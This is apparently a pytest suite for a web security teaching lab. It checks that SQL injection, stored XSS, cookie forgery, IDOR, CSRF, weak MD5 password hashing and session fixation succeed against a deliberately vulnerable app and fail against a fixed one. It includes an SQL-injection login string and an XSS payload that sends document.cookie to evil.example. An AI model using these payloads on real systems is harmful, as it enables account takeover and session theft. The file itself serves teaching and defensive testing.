"""Each attack succeeds against `vulnerable` and fails against `fixed`."""

from __future__ import annotations

import hashlib

import pytest
from fastapi.testclient import TestClient

from labs.security_lab import fixed, vulnerable

# Test-only credentials; the lab builds its in-memory database from these on every run.
ACCOUNTS = [
    ("alice", "alice-long-passphrase-1", "user"),
    ("bob", "bob-long-passphrase-22", "user"),
    ("root", "root-long-passphrase-333", "admin"),
    ("carol", "alice-long-passphrase-1", "user"),  # reuses alice's password
]


def client_for(module) -> TestClient:
    return TestClient(module.create_app(ACCOUNTS), base_url="https://lab.test")


def login(client: TestClient, username: str, password: str) -> dict[str, str]:
    response = client.post("/login", data={"username": username, "password": password})
    assert response.status_code == 200, response.text
    token = response.json().get("csrf_token")
    return {"X-CSRF-Token": token} if token else {}


@pytest.fixture
def bad() -> TestClient:
    return client_for(vulnerable)


@pytest.fixture
def good() -> TestClient:
    return client_for(fixed)


def test_both_versions_let_real_users_in(bad, good):
    for client in (bad, good):
        headers = login(client, "alice", "alice-long-passphrase-1")
        assert client.get("/notes/1", headers=headers).status_code == 200


# --8<-- [start:sqli]
SQLI_USERNAME = "root' --"  # comments out the password check


def test_sqli_logs_in_as_admin_without_a_password_on_vulnerable(bad):
    assert bad.post("/login", data={"username": SQLI_USERNAME, "password": "x"}).status_code == 200
    assert bad.get("/admin").status_code == 200


def test_sqli_is_just_a_wrong_username_on_fixed(good):
    assert good.post("/login", data={"username": SQLI_USERNAME, "password": "x"}).status_code == 401


# --8<-- [end:sqli]


# --8<-- [start:xss]
PAYLOAD = "<script>fetch('https://evil.example/?c='+document.cookie)</script>"


def test_stored_xss_is_served_raw_by_vulnerable(bad):
    login(bad, "alice", "alice-long-passphrase-1")
    note = bad.post("/notes", data={"body": PAYLOAD}).json()["id"]
    assert PAYLOAD in bad.get(f"/notes/{note}").text


def test_stored_xss_is_escaped_and_blocked_by_csp_on_fixed(good):
    headers = login(good, "alice", "alice-long-passphrase-1")
    note = good.post("/notes", data={"body": PAYLOAD}, headers=headers).json()["id"]
    page = good.get(f"/notes/{note}")
    assert PAYLOAD not in page.text and "&lt;script&gt;" in page.text
    assert "object-src 'none'" in page.headers["content-security-policy"]


# --8<-- [end:xss]


# --8<-- [start:cookies]
def test_forged_cookie_becomes_admin_on_vulnerable(bad):
    login(bad, "bob", "bob-long-passphrase-22")
    bad.cookies.set("user_id", "3")  # root's id: the cookie value is the whole identity
    assert bad.get("/admin").status_code == 200


def test_vulnerable_cookie_has_no_protective_attributes(bad):
    set_cookie = bad.post("/login", data={"username": "bob", "password": "bob-long-passphrase-22"}).headers[
        "set-cookie"
    ]
    assert "HttpOnly" not in set_cookie and "Secure" not in set_cookie and "SameSite" not in set_cookie


def test_fixed_cookie_is_opaque_and_locked_down(good):
    set_cookie = good.post("/login", data={"username": "bob", "password": "bob-long-passphrase-22"}).headers[
        "set-cookie"
    ]
    assert set_cookie.startswith("__Host-session=")
    for attribute in ("HttpOnly", "Secure", "SameSite=lax", "Path=/"):
        assert attribute in set_cookie
    forged = TestClient(good.app, base_url="https://lab.test", cookies={"__Host-session": "3", "user_id": "3"})
    assert forged.get("/admin").status_code == 401


# --8<-- [end:cookies]


# --8<-- [start:authz]
def test_bob_reads_alices_note_on_vulnerable(bad):
    login(bad, "bob", "bob-long-passphrase-22")
    assert "call the bank" in bad.get("/notes/1").text


def test_bob_gets_404_for_alices_note_on_fixed(good):
    headers = login(good, "bob", "bob-long-passphrase-22")
    assert good.get("/notes/1", headers=headers).status_code == 404


def test_plain_user_cannot_open_admin_on_fixed(good):
    login(good, "bob", "bob-long-passphrase-22")
    assert good.get("/admin").status_code == 403


# --8<-- [end:authz]


# --8<-- [start:csrf]
def test_cross_site_post_without_token_works_on_vulnerable(bad):
    login(bad, "alice", "alice-long-passphrase-1")
    assert bad.post("/notes", data={"body": "posted by evil.example"}).status_code == 201


def test_cross_site_post_without_token_is_refused_on_fixed(good):
    login(good, "alice", "alice-long-passphrase-1")
    assert good.post("/notes", data={"body": "posted by evil.example"}).status_code == 403


# --8<-- [end:csrf]


# --8<-- [start:storage]
def stored_hashes(client: TestClient) -> dict[str, str]:
    return dict(client.app.state.db.execute("SELECT username, password_hash FROM users"))


def test_vulnerable_storage_is_a_lookup_table_away_from_plaintext(bad):
    hashes = stored_hashes(bad)
    assert hashes["alice"] == hashlib.md5(b"alice-long-passphrase-1").hexdigest()  # noqa: S324
    assert hashes["alice"] == hashes["carol"]  # same password, same hash: crack one, get both


def test_fixed_storage_is_salted_argon2id(good):
    hashes = stored_hashes(good)
    assert hashes["alice"].startswith("$argon2id$v=19$m=19456,t=2,p=1$")
    assert hashes["alice"] != hashes["carol"]


# --8<-- [end:storage]


def test_login_fixation_is_prevented_on_fixed(good):
    planted = TestClient(good.app, base_url="https://lab.test", cookies={"__Host-session": "planted-id"})
    response = planted.post("/login", data={"username": "alice", "password": "alice-long-passphrase-1"})
    assert response.cookies.get("__Host-session") not in (None, "planted-id")
